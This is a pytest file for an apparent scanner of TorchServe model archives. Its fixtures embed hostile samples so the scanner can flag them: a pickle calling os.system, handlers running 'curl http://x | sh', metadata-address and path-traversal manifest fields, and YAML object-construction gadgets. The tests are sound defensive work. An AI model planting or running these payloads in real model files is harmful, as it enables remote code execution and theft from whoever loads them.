"""TorchServe archives: the manifest, the handler, sources, requirements, workflows."""

import io
import json
import tarfile
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from modelward.artifact.verdict import inspect_bytes

GOOD = b"\x80\x02}q\x00X\x01\x00\x00\x00aK\x01s."
SYSTEM = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R."
HANDLER = b"from ts.torch_handler.base_handler import BaseHandler\n\n\nclass Mine(BaseHandler):\n    def preprocess(self, data):\n        return data\n"


def mar(model=None, *, part="model", runtime="python", **members):
    manifest = {"createdOn": "01/01/2025", "runtime": runtime, "archiverVersion": "0.12.0"}
    manifest[part] = {
        "modelName": "m",
        "modelVersion": "1.0",
        "serializedFile": "model.pt",
        "handler": "image_classifier",
    } | (model or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        for name, content in ({"model.pt": GOOD} | members).items():
            file.writestr(name, content)
    return buffer.getvalue()


def rules(report):
    return {finding.rule for finding in report.findings if finding.severity != "info"}


@pytest.mark.parametrize("handler", [
    "image_classifier", "text_classifier", "object_detector", "image_segmenter", "text_handler", "vision_handler", "base_handler", "ts.torch_handler.image_classifier",
])  # fmt: skip
def test_handlers_that_torchserve_brings_are_inert(handler):
    report = inspect_bytes(mar({"handler": handler}, **{"index_to_name.json": b'{"0": "cat"}'}), "m.mar")
    assert (report.format, report.verdict) == ("mar", "inert")
    assert report.facts["metadata"] == {"modelName": "m", "modelVersion": "1.0"}


def test_members_are_read():
    assert inspect_bytes(mar(**{"model.pt": SYSTEM}), "m.mar").verdict == "dangerous"
    assert inspect_bytes(mar(**{"vocab.bin": SYSTEM}), "m.mar").verdict == "dangerous"
    assert inspect_bytes(mar(**{"../x.txt": b"text"}), "m.mar").verdict == "dangerous"


@pytest.mark.parametrize("handler", ["handler.py", "handler", "handler.py:handle", "handler:handle"])
def test_a_handler_in_the_archive(handler):
    plain = inspect_bytes(mar({"handler": handler}, **{"handler.py": HANDLER}), "m.mar")
    assert (plain.verdict, rules(plain)) == ("unproven", {"shipped.source"})
    for line in (
        b"import os\nos.system('curl http://x | sh')\n",
        b"import subprocess\nsubprocess.Popen(['sh', '-c', 'id > /tmp/x'])\n",
    ):
        evil = inspect_bytes(mar({"handler": handler}, **{"handler.py": line + HANDLER}), "m.mar")
        assert (evil.verdict, "shipped.payload" in rules(evil)) == ("dangerous", True)


def test_the_file_of_a_model_and_other_sources():
    evil = b"import os\nos.system('curl http://x | sh')\n"
    assert inspect_bytes(mar({"modelFile": "net.py"}, **{"net.py": HANDLER}), "m").verdict == "unproven"
    assert inspect_bytes(mar({"modelFile": "net.py"}, **{"net.py": evil}), "m").verdict == "dangerous"
    assert inspect_bytes(mar(**{"unused.py": HANDLER}), "m").verdict == "inert"
    assert inspect_bytes(mar(**{"unused.py": evil}), "m").verdict == "dangerous"


@pytest.mark.parametrize(
    ("handler", "verdict"),
    [
        ("/tmp/handler.py", "dangerous"),
        ("../handler.py:handle", "dangerous"),
        ("my_handler", "unproven"),
        ("os:system", "unproven"),
    ],
)
def test_handlers_from_elsewhere(handler, verdict):
    assert inspect_bytes(mar({"handler": handler}), "m").verdict == verdict


@pytest.mark.parametrize(("fields", "rule"), [
    ({"serializedFile": "http://169.254.169.254/x"}, "mar.url"), ({"extraFiles": "a.txt,https://evil/x"}, "mar.url"), ({"serializedFile": "../../x.pt"}, "mar.path"),
    ({"modelFile": "/etc/passwd"}, "mar.path"), ({"extraFiles": "a,../../b"}, "mar.path"),
])  # fmt: skip
def test_manifests_that_lead_out(fields, rule):
    report = inspect_bytes(mar(fields), "m.mar")
    assert (report.verdict, rules(report)) == ("dangerous", {rule})


@pytest.mark.parametrize(("text", "verdict"), [
    (b"numpy==1.26\ntorch>=2\n", "inert"), (b"--index-url http://x\nnumpy\n", "unproven"), (b"numpy\ngit+https://github.com/x/y\n", "unproven"),
    (b"pkg @ https://x/y.whl\n", "unproven"), (b"-e .\n", "unproven"),
])  # fmt: skip
def test_requirements(text, verdict):
    assert (
        inspect_bytes(
            mar({"requirementsFile": "requirements.txt"}, **{"requirements.txt": text}), "m"
        ).verdict
        == verdict
    )


def test_workflows():
    spec = b"models:\n  a:\n    url: a.mar\ndag:\n  a: []\n"
    war = {"workflowName": "w", "specFile": "spec.yaml", "handler": "handler.py"}
    report = inspect_bytes(mar(war, part="workflow", **{"spec.yaml": spec, "handler.py": HANDLER}), "w.war")
    assert rules(report) == {"shipped.source"}
    remote = inspect_bytes(mar({}, **{"spec.yaml": b"models:\n  a:\n    url: http://x/a.mar\n"}), "w.war")
    assert (remote.verdict, rules(remote)) == ("unproven", {"mar.url"})


@pytest.mark.parametrize("spec", [
    b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]\n', b"a: !!python/object/apply:os.system ['id']\n",
    b"models: [\n!!javax.script.ScriptEngineManager [",
])  # fmt: skip
def test_shelltorch_constructs_objects_from_yaml(spec):
    report = inspect_bytes(mar(**{"spec.yaml": spec}), "w.war")
    assert report.verdict == "dangerous"
    assert "mar.tag" in rules(report)


def test_manifests_that_are_damaged_or_ask_for_another_runtime():
    assert inspect_bytes(mar(runtime="shell"), "m").verdict == "unproven"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("MAR-INF/MANIFEST.json", b"[]")
    report = inspect_bytes(buffer.getvalue(), "m")
    assert report.verdict == "unproven"
    assert "holds no object" in report.coverage.unread[0]


@given(
    st.dictionaries(
        st.sampled_from(["handler", "modelFile", "extraFiles", "requirementsFile", "x"]),
        st.one_of(st.none(), st.integers(), st.text(max_size=20), st.lists(st.text(max_size=5), max_size=3)),
    ),
    st.binary(max_size=80),
)
def test_any_manifest_gives_a_verdict(fields, content):
    report = inspect_bytes(mar(fields, **{"handler.py": content, "a.yaml": content}), "m.mar")
    assert report.verdict in {"inert", "unproven", "dangerous"}


# --- archives of tar ---------------------------------------------------------------------------------------------


def packed(mode="w", handler="h.py", **members):
    """As `torch-model-archiver --archive-format tgz` writes it."""
    manifest = {
        "runtime": "python",
        "model": {"modelName": "m", "serializedFile": "m.pt", "handler": handler},
    }
    content = {"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), **members}
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode=mode) as archive:
        for name, data in content.items():
            entry = tarfile.TarInfo(name.replace("__", "/"))
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return made.getvalue()


EVIL = b"import os\nos.system('id')\n"


@pytest.mark.parametrize("mode", ["w", "w:gz", "w:xz"])
def test_an_archive_of_tar_is_served_as_well(mode):
    assert inspect_bytes(packed(mode, **{"h.py": EVIL}), "m.tar.gz").verdict == "dangerous"
    assert inspect_bytes(packed(mode, **{"h.py": b"class H:\n    pass\n"}), "m.tar.gz").verdict == "unproven"
    assert inspect_bytes(packed(mode, "image_classifier"), "m.tar.gz").verdict == "inert"
    assert inspect_bytes(packed(mode, "../evil.py"), "m.tar.gz").verdict == "dangerous"


def test_a_tar_is_told_by_its_manifest():
    report = inspect_bytes(packed(**{"h.py": EVIL}), "x")
    assert (report.format, rules(report)) == ("mar", {"shipped.payload"} | rules(report))
    assert inspect_bytes(packed().replace(b"MAR-INF/MANIFEST", b"MAR-INF/MANIFESX"), "x").format == "tar"


@pytest.mark.parametrize("mode", ["w", "w:gz"])
def test_a_mar_within_a_tar(mode):
    inner = mar({"handler": "h.py"}, **{"h.py": EVIL.decode()})
    assert (
        inspect_bytes(packed(mode, "image_classifier", **{"a__model.mar": inner}), "x").verdict == "dangerous"
    )
